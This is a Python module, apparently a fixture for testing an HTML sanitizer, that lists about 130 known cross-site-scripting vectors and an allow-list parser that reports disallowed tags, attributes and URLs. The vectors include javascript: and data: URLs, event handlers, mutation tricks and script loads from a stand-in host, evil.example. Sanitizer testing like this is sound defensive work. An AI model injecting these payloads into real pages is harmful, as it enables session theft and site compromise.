"""Markup that tries to run script, by the trick that it plays; and what finds out whether it still could.

Our own wording of what is publicly known of such tricks.
"""

import re
from html.parser import HTMLParser

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<? <script>alert(1)</script> ?>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x, x onerror=alert(1) 2x'>",
    "<img src=x alt='\"><script>alert(1)</script>'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=1>x</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1)></set><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<template><template><img src=x onerror=alert(1)></template></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&#58;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='javascript\x00:alert(1)'>x</a>",
    "<a href='javascript://example.org/%0aalert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='jar:javascript:alert(1)!'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://example.org/1'>x</a>",
    "<a href='http://example.org/' target=_blank ping='javascript:alert(1)'>x</a>",
    "<a href=x onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<a href='x' style='background:url(javascript:alert(1))'>x</a>",
    "<a name=x id=document.cookie class=x data-x=alert(1)>x</a>",
    "<area href=javascript:alert(1)><map name=x></map>",
    "<base href='javascript:alert(1)//'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url('javascript:alert(1)')}</style>",
    "<p style=\"width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml#x)\">x</p>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<div background='javascript:alert(1)'>x</div>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x.class archive=javascript:alert(1)></applet>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button><input type=image src=x onerror=alert(1)></form>",
    "<isindex type=image src=1 onerror=alert(1) action=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)><keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<video src=x poster=javascript:alert(1)></video>",
    "<audio src=javascript:alert(1) onerror=alert(1)></audio>",
    "<picture><source srcset='data:image/svg+xml,<svg onload=alert(1)>' onerror=alert(1)><img></picture>",
    "<track src=javascript:alert(1)>",
    "<body onload=alert(1) background=javascript:alert(1)>x",
    "<html onmouseover=alert(1)>x",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<p onclick=alert(1)//<p/onclick=alert(1)>x</p>",
    "<p/onclick=alert(1) title=a\"onclick=alert(1)>x</p>",
    "<q cite='javascript:alert(1)'>x</q><blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<del cite='javascript:alert(1)'>x</del>",
    "<time datetime='\"><script>alert(1)</script>'>x</time>",
    "<bdo dir='\"><script>alert(1)</script>'>x</bdo>",
    "<abbr title='</abbr><script>alert(1)</script>'>x</abbr>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\"><script>alert(1)</script>",
    "'-alert(1)-'",
    "{{constructor.constructor('alert(1)')()}}",
    "</p></div></body></html><script>alert(1)</script>",
    "<table><tr><td></tr></table></td><script>alert(1)</script>",
    "<a href=\"https://example.org/\" <script>alert(1)</script>",
    "<b><script>alert(1)</script",
    "<img src=x onerror=alert(1)",
    "<a\x00 href=javascript:alert(1)>x</a>",
    "<\x00script>alert(1)</script>",
    "<sc\x00ript>alert(1)</script>",
)  # fmt: skip

TAGS = frozenset(
    """
    a abbr address article aside audio b bdi bdo big blockquote br caption center cite code col colgroup dd del
    details dfn dir div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li main
    mark nav ol p picture pre q rp rt ruby s samp section small source span strike strong sub summary sup table
    tbody td tfoot th thead time tr tt u ul var video wbr
    """.split()  # noqa: SIM905
)
ADDRESSES = frozenset({"href", "src", "poster"})
HARMLESS = frozenset(
    """
    alt colspan controls datetime dir height hreflang lang media reversed rowspan scope sizes srcset start title
    type value width
    """.split()  # noqa: SIM905
)


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name in ADDRESSES:
            if not re.match(r"https?://[^\s<>\"]+$", value):
                self.faults.append(f"<{tag} {name}={value!r}>")
        elif (name, value) == ("rel", "embedded"):
            return
        elif name == "srcset":
            self.faults += [f"<{tag} srcset={each!r}>" for each in value.split(", ") if not each.startswith("http")]
        elif name not in HARMLESS:
            self.faults.append(f"<{tag} {name}>")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}>")


def faults(html: str) -> list[str]:
    """What in this HTML is not on the short list of what can do no harm, read by another parser than made it."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults
